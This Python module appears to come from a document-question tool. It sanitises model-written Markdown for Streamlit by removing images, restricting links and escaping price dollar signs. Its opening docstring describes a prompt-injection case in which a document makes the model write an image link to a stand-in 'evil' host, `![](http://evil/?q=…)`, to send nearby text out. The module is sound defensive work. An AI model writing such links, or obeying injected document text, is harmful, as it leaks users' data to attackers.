"""Text of models and documents made fit for Streamlit.

No images, web links only, and no formulas where prices were meant.

A document can try to send its neighbours' text out by having the model write
`![](http://evil/?q=…)`. Streamlit already draws raw HTML as text; images and links are dealt with
here, and the page's content policy (page.js) stops the browser from loading anything remote should
something slip through.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from markdown_it import MarkdownIt

from docmind.verification.sentences import expand

Cite = Callable[[int, int], str]
"""Called with a mark's number and how many marks came before; returns the mark's Markdown."""

_PUNCTUATION = re.compile(r"([\\`*_{}\[\]()<>#+\-.!|~$:^=&])")
_ALLOWED_TARGETS = ("http://", "https://", "mailto:", "#cite-", "#unverified-")
_JOINER = "\u2060"
"""Invisible; keeps the "!" and "[" of code apart."""

_INLINE = re.compile(
    r"""
    (?P<escaped>\\[!-/:-@\[-`{-~])                                    # \*
  | (?P<code>(?<!`)(?P<ticks>`+)(?!`)(?:(?!\n\s*\n).)+?(?<!`)(?P=ticks)(?!`))       # `code`
  | (?P<display>\$\$(?P<display_body>(?:(?!\n\s*\n).)+?)\$\$)         # $$a + b$$
  | (?P<math>(?<![\w$])\$(?P<body>[^\s$](?:[^$\n]{0,200}?[^\s$\\])?)\$(?![\w$]))    # $x^2$
  | (?P<dollar>\$)                                                    # a price
  | (?P<image>!(?=\[))                                                # ![
  | (?P<directive>:(?=[\w/-]*[\[:]))                                  # Streamlit's :red[text]
  | (?P<definition>^[ \t>]*\[[^\]\n]+\](?=:))                         # [name]: address
  | (?P<marker>\[\s*(?P<numbers>\d{1,3}(?:\s*[,;\u2013-]\s*\d{1,3})*)\s*\]
      (?!\()(?!\[(?!\d)))                                             # [1], [1, 3-5]
    """,
    re.VERBOSE | re.DOTALL | re.MULTILINE,
)
"""What may stand in prose and must be left whole or changed, in the order in which Markdown reads
it."""
_TEX_BRACKETS = re.compile(r"\\\((.+?)\\\)|\\\[(.+?)\\\]", re.DOTALL)
"""`\\(x\\)` and `\\[x\\]`, as TeX writes formulas."""
_LINK = re.compile(r"(?<!\\)\[((?:[^\[\]\\]|\\.|\[[^\[\]]*\])*)\]\(\s*<?([^)\s>]*)>?[^)\n]*\)")
"""`[label](target "title")`; the label may have one level of brackets."""
_MARKDOWN_LINE = re.compile(r"[^\r\n]*(?:\r\n?|\n)|[^\r\n]+")
"""A line as Markdown counts them: Python's `splitlines` knows more line ends."""


def plain(text: str) -> str:
    """Return `text` so that Streamlit draws it letter by letter, in one line.

    For names, titles and tasks in labels.
    """
    return _PUNCTUATION.sub(r"\\\1", " ".join(text.split()))


def plain_block(text: str) -> str:
    """Return Markdown that shows `text` as it is, line breaks included."""
    lines = [_PUNCTUATION.sub(r"\\\1", line.strip()) for line in text.splitlines()]
    return "  \n".join(lines)


def safe(text: str, cite: Cite | None = None) -> str:
    """Return Markdown that shows `text` without images, with web links only, and prices as prices.

    Args:
        text: Markdown as a model wrote it, possibly unfinished.
        cite: draws each number of `[1]`, `[1, 2]` and `[1-3]`; None leaves them as they are.
    """
    prose = _Prose(cite)
    parts = []
    for run in _runs(text):
        if run.is_code:
            parts.append(run.text)
        else:
            parts.append(prose.make_safe(run.text))
    shown = "".join(parts)
    return shown if _is_harmless(shown) else plain_block(text)


def markers(text: str) -> list[int]:
    """Return the numbers that `safe` draws with `cite`, in the order in which it counts them."""
    found: list[int] = []

    def collect(number: int, _position: int) -> str:
        found.append(number)
        return "x"

    safe(text, collect)
    return found


class _Prose:
    """Makes the prose of one text safe, and counts its marks over the code between."""

    def __init__(self, cite: Cite | None) -> None:
        self._cite = cite
        self._marks_seen = 0

    def make_safe(self, text: str) -> str:
        """Return Markdown for the next run of prose."""
        text = _TEX_BRACKETS.sub(_tex_as_dollars, text)
        text = _LINK.sub(_safe_link, text)
        return _INLINE.sub(self._safe_inline, text)

    def _safe_inline(self, match: re.Match[str]) -> str:
        whole = match[0]
        if match["math"] and not _is_math(match["body"]):
            return whole.replace("$", "\\$").replace("![", "&#33;[")
        if match["code"] or match["display"] or match["math"]:
            return whole.replace("![", f"!{_JOINER}[")
        if match["marker"] and self._cite is not None:
            return self._draw_marks(match["numbers"], self._cite) or whole
        if match["image"]:
            return "&#33;"
        if match["dollar"] or match["directive"] or match["definition"]:
            text = whole.lstrip(" \t>")
            before = whole[: len(whole) - len(text)]
            return f"{before}\\{text}"
        return whole

    def _draw_marks(self, numbers: str, cite: Cite) -> str:
        drawn = ""
        for number in expand(numbers):
            drawn += cite(number, self._marks_seen)
            self._marks_seen += 1
        return drawn


def _tex_as_dollars(match: re.Match[str]) -> str:
    """Return TeX's brackets for a formula as the dollars that Streamlit knows."""
    inline_body, display_body = match.groups()
    if inline_body:
        return f"${inline_body.strip()}$"
    return f"$${display_body.strip()}$$"


def _is_math(body: str) -> bool:
    """Tell `$x^2$` from "$5 or 6$": what starts like a price needs a mathematical sign."""
    if body[0].isdigit():
        return bool(re.search(r"[\\^_={}]", body))
    has_words = re.search(r"\w{4,} \w{3,}", body)
    return not has_words


def _safe_link(match: re.Match[str]) -> str:
    label = match[1]
    target = match[2].lower()
    before = match.string[max(0, match.start() - 1) : match.start()]
    if before == "!":
        return f"[{label}]"  # an image: its "!" is dealt with later, its address is gone
    if label.isdigit() and not target.startswith("http"):
        return match[0].replace("](", "] (")  # a citation before a remark in brackets
    if target.startswith(("http://", "https://")):
        return match[0]
    return label


@dataclass(frozen=True)
class _Run:
    """Lines that are all fenced code, or all prose."""

    is_code: bool
    text: str


def _runs(text: str) -> Iterator[_Run]:
    """Split `text` into fenced code and prose."""
    lines = _MARKDOWN_LINE.findall(text)
    done = 0
    for token in MarkdownIt("commonmark").parse(text):
        if token.type == "fence" and token.map:
            first, end = token.map
            yield _Run(is_code=False, text="".join(lines[done:first]))
            yield _Run(is_code=True, text="".join(lines[first:end]))
            done = end
    yield _Run(is_code=False, text="".join(lines[done:]))


def _is_harmless(markdown: str) -> bool:
    """Read the result as the browser will, and refuse what should not be there."""
    for block in MarkdownIt("commonmark").parse(markdown):
        for token in block.children or ():
            if token.type == "image":
                return False
            if token.type == "link_open":
                target = str(token.attrGet("href") or "").lower()
                if target and not target.startswith(_ALLOWED_TARGETS):
                    return False
    return True
